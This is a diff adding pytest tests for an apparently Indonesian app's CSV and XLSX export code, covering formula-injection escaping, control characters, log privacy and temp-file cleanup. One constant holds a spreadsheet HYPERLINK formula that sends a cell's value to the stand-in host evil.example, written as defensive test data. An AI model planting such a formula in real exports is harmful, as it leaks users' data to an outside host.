@@ -258,3 +258,215 @@ def test_cli_refuses_wrong_password_and_agent_unmasking(
     assert not out.exists()
     done = _cli(["--agent", "AG001", "--kind", "visits", "--out", str(out)], app_home)
     assert done.returncode == 1 and "date range or an event" in done.stderr
+
+
+# -- hostile text, failures, cancels and kills ------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"Klik")'
+MARKER = "Zq9MarkerNamaPekerja"
+
+
+def _rename_business(world: World, name: str, owner: str) -> None:
+    import sqlalchemy as sa
+
+    from agent_app.storage import tables
+
+    with world.uow() as u:
+        u.session.execute(
+            sa.update(tables.Business)
+            .where(tables.Business.name == "Pempek Cek Mar")
+            .values(name=name, owner_name=owner)
+        )
+        u.commit()
+
+
+def _all_cells(path: Path) -> list[openpyxl.cell.cell.Cell]:
+    book = openpyxl.load_workbook(path)
+    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+
+
+def test_formulas_in_exported_text_stay_text(world: World, tmp_path: Path) -> None:
+    _rename_business(world, FORMULA, "@SUM(1+1)")
+    january = exports.ExportRequest(exports.Kind.BUSINESSES, format=exports.Format.CSV, **JAN)
+    exports.export(world.uow(), world.supervisor, january, tmp_path / "b.csv")
+    (row,) = [r for r in read_csv(tmp_path / "b.csv") if "HYPERLINK" in r["Nama usaha"]]
+    assert row["Nama usaha"] == "'" + FORMULA
+    assert row["Pemilik usaha"] == "'@SUM(1+1)"
+    as_xlsx = exports.ExportRequest(exports.Kind.BUSINESSES, format=exports.Format.XLSX, **JAN)
+    exports.export(world.uow(), world.supervisor, as_xlsx, tmp_path / "b.xlsx")
+    cells = _all_cells(tmp_path / "b.xlsx")
+    assert not [c for c in cells if c.data_type == "f"]
+    assert "'" + FORMULA in [c.value for c in cells]
+    assert "'@SUM(1+1)" in [c.value for c in cells]
+
+
+@pytest.mark.parametrize(
+    ("text", "safe"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1+1", "'+1+1"),
+        ("+62 812-3456", "'+62 812-3456"),
+        ("+6281234567001", "+6281234567001"),  # a plain number stays a number
+        ("-2", "-2"),
+        ("-5+3", "'-5+3"),
+        ("@cmd", "'@cmd"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("\x01=1", "'=1"),  # a control character cannot hide a formula
+        ("Siti\x07 Ami\x1bnah\x7f", "Siti Aminah"),
+        ("baris\nkedua\ttab", "baris\nkedua\ttab"),
+        ("Pempek Cek Mar", "Pempek Cek Mar"),
+    ],
+)
+def test_cell_text(text: str, safe: str) -> None:
+    assert exports.cell_text(text) == safe
+
+
+def test_a_control_character_no_longer_breaks_the_xlsx_export(
+    world: World, tmp_path: Path, caplog: pytest.LogCaptureFixture
+) -> None:
+    _rename_business(world, f"Pempek {MARKER}\x07\x00", f"Owner{MARKER}\x1b")
+    request = exports.ExportRequest(
+        exports.Kind.BUSINESSES, format=exports.Format.XLSX, unmasked=True, **JAN
+    )
+    result = exports.export(world.uow(), world.supervisor, request, tmp_path / "b.xlsx")
+    assert result.rows == 2
+    values = [c.value for c in _all_cells(tmp_path / "b.xlsx")]
+    assert f"Pempek {MARKER}" in values and f"Owner{MARKER}" in values
+    assert MARKER not in caplog.text
+
+
+def test_a_failed_export_logs_no_cell_value_and_leaves_no_file(
+    world: World, tmp_path: Path, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    def breaks(path: Path, *_args: object) -> None:
+        path.write_text("half an export")
+        raise ValueError("Siti Aminah cannot be used in worksheets.")  # as openpyxl words it
+
+    monkeypatch.setattr(exports, "write_xlsx", breaks)
+    out_dir = tmp_path / "out"
+    out_dir.mkdir()
+    request = exports.ExportRequest(exports.Kind.ENROLLMENTS, unmasked=True, **JAN)
+    with pytest.raises(exports.ExportBug) as failed:
+        exports.export(world.uow(), world.supervisor, request, out_dir / "e.xlsx")
+    assert "Aminah" not in str(failed.value)
+    assert failed.value.__cause__ is None and failed.value.__suppress_context__
+    assert "Aminah" not in caplog.text
+    assert "ValueError" in caplog.text
+
+
+def test_a_full_disk_is_a_clear_message(
+    world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    import errno
+
+    def full(*_args: object) -> None:
+        raise OSError(errno.ENOSPC, "No space left on device")
+
+    monkeypatch.setattr(exports, "write_csv", full)
+    request = exports.ExportRequest(exports.Kind.ENROLLMENTS, format=exports.Format.CSV, **JAN)
+    with pytest.raises(exports.ExportFailed) as failed:
+        exports.export(world.uow(), world.agent, request, tmp_path / "e.csv")
+    assert failed.value.code == "write_failed"
+    assert "ruang disk" in failed.value.message("id")
+    assert "disk space" in failed.value.message("en")
+
+
+def _rows(count: int, stop: BaseException | None = None):  # type: ignore[no-untyped-def]
+    for n in range(count):
+        if stop is not None and n == count // 2:
+            raise stop
+        yield [f"{MARKER} {n}", "2027-01-04"]
+
+
+COLUMNS = (exports.Column("Nama", lambda r: r), exports.Column("Tanggal", lambda r: r))
+
+
+def _files_holding(folder: Path, text: str) -> list[Path]:
+    found = []
+    for path in folder.rglob("*"):
+        if path.is_file() and text.encode() in path.read_bytes():
+            found.append(path)
+    return found
+
+
+@pytest.fixture
+def system_tmp(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """The system temporary folder of this test (where openpyxl puts its sheets by default)."""
+    folder = tmp_path / "systmp"
+    folder.mkdir()
+    monkeypatch.setattr("tempfile.tempdir", str(folder))
+    return folder
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_a_cancelled_export_leaves_nothing_behind(
+    tmp_path: Path, system_tmp: Path, fmt: str
+) -> None:
+    out_dir = tmp_path / "out"
+    out_dir.mkdir()
+    with pytest.raises(KeyboardInterrupt):
+        if fmt == "csv":
+            exports.write_csv(
+                out_dir / "e.csv", ["Nama", "Tanggal"], _rows(2000, KeyboardInterrupt())
+            )
+        else:
+            exports.write_xlsx(
+                out_dir / "e.xlsx", "Data", COLUMNS, _rows(2000, KeyboardInterrupt()), []
+            )
+    assert list(out_dir.iterdir()) == []
+    assert list(system_tmp.iterdir()) == []
+
+
+def test_a_finished_export_is_private_and_leaves_no_temporary_file(
+    tmp_path: Path, system_tmp: Path
+) -> None:
+    out = tmp_path / "out.xlsx"
+    exports.write_xlsx(out, "Data", COLUMNS, _rows(100), [("Laporan", "x")])
+    assert [p.name for p in tmp_path.iterdir() if p != system_tmp] == ["out.xlsx"]
+    assert list(system_tmp.iterdir()) == []
+    if os.name == "posix":
+        assert out.stat().st_mode & 0o777 == 0o600
+
+
+KILLED_EXPORT = """
+import sys, time
+from pathlib import Path
+from agent_app.reports import exports
+MARKER = sys.argv[2]
+
+def rows():
+    for n in range(100_000):
+        if n == 5_000:
+            print("ready", flush=True)
+            time.sleep(120)
+        yield [f"{MARKER} {n}", "2027-01-04"]
+
+columns = (exports.Column("Nama", lambda r: r), exports.Column("Tanggal", lambda r: r))
+exports.write_xlsx(Path(sys.argv[1]), "Data", columns, rows(), [])
+"""
+
+
+@pytest.mark.skipif(os.name != "posix", reason="SIGKILL is POSIX")
+def test_an_export_killed_midway_leaves_no_plaintext_in_the_system_temp_folder(
+    tmp_path: Path, system_tmp: Path
+) -> None:
+    import signal
+
+    out_dir = tmp_path / "out"
+    out_dir.mkdir()
+    child = subprocess.Popen(
+        [sys.executable, "-c", KILLED_EXPORT, str(out_dir / "e.xlsx"), MARKER],
+        env={**os.environ, "TMPDIR": str(system_tmp)},
+        stdout=subprocess.PIPE,
+        text=True,
+    )
+    assert child.stdout is not None
+    assert child.stdout.readline().strip() == "ready"  # 5,000 rows written, not finished
+    child.send_signal(signal.SIGKILL)
+    child.wait()
+    assert _files_holding(system_tmp, MARKER) == []
+    assert not (out_dir / "e.xlsx").exists()
+    # what the killed export left beside its destination goes with the next export there
+    exports.write_csv(out_dir / "next.csv", ["Nama"], [["x"]])
+    assert [p.name for p in out_dir.iterdir()] == ["next.csv"]
